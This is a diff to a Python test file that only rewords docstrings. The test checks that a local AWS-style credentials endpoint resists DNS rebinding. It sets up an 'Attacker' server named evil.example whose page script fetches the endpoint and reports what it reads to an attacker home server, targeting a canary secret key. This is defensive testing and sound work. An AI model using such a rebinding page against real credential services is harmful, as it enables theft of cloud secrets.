@@ -1,4 +1,4 @@
-"""A page in a real browser that has come to be of the endpoint's own origin (DNS rebinding, T24) reads nothing."""
+"""A page in a real browser that uses DNS rebinding to reach the endpoint cannot read anything."""
 
 from __future__ import annotations
 
@@ -22,7 +22,7 @@ from world.waiting import eventually
 CHROMIUM = shutil.which("chromium") or shutil.which("chromium-browser") or shutil.which("google-chrome")
 CANARY = "CanarySecretAccessKey"
 NAME = "evil.example"
-"""The browser is told that this is 127.0.0.1: what the attacker's own name server would say the second time."""
+"""The browser resolves this to 127.0.0.1, as from the attacker's name server at the second query."""
 
 PAGE = """<!doctype html><script>
 const home = 'http://127.0.0.1:%(home)d/', endpoint = 'http://127.0.0.1:%(port)d/role/a';
@@ -56,10 +56,10 @@ const report = (what, read) => fetch(home, {method: 'POST', mode: 'no-cors', bod
 
 
 class Attacker:
-    """A web server of somebody else's: serves `page` to everybody, and is told what a page could read."""
+    """A web server that serves `page` to everyone and records what the page could read."""
 
     def __init__(self, port: int = 0, token: str = "") -> None:
-        """With a `token`: serves it to nobody who does not send that one."""
+        """With a `token`: answers only requests that send it."""
         self.page = ""
         self.reports: dict[str, str] = {}
         attacker = self
@@ -100,7 +100,7 @@ class Attacker:
 
 @pytest.fixture
 def servers() -> Iterator[tuple[Attacker, Attacker]]:
-    """The server behind the page, and the attacker's home that the page reports to."""
+    """The server behind the page, and the attacker's server that the page reports to."""
     both = Attacker(), Attacker()
     yield both
     for server in both:
@@ -129,7 +129,7 @@ def guarded(port: int, aws_home: Home, sts: FakeSts) -> Iterator[str]:
 
 @contextmanager
 def unguarded(port: int, aws_home: Home, sts: FakeSts) -> Iterator[str]:
-    """A server that asks for the token and looks at nothing else."""
+    """A server that checks the token and nothing else."""
     server = Attacker(port, "the-token-of-this-test")
     server.page = CANARY
     yield "the-token-of-this-test"
@@ -139,15 +139,14 @@ def unguarded(port: int, aws_home: Home, sts: FakeSts) -> Iterator[str]:
 @pytest.mark.slow
 @pytest.mark.skipif(CHROMIUM is None, reason="no Chromium is installed")
 @pytest.mark.parametrize("endpoint", [guarded, unguarded])
-def test_a_page_whose_name_has_come_to_mean_the_endpoint_reads_nothing(
+def test_a_page_rebound_to_the_endpoint_reads_nothing(
     endpoint: Any,
     servers: tuple[Attacker, Attacker],
     aws_home: Home,
     sts: FakeSts,
     record: Record,
 ) -> None:
-    """Not even one that knew the token. Of a server without our guards it reads all: the page does what it is meant
-    to."""
+    """Not even with the token. From a server without our checks it reads everything, so the attack works."""
     front, home = servers
     front.page = PAGE % {"home": home.port, "port": front.port}
     assert CHROMIUM is not None
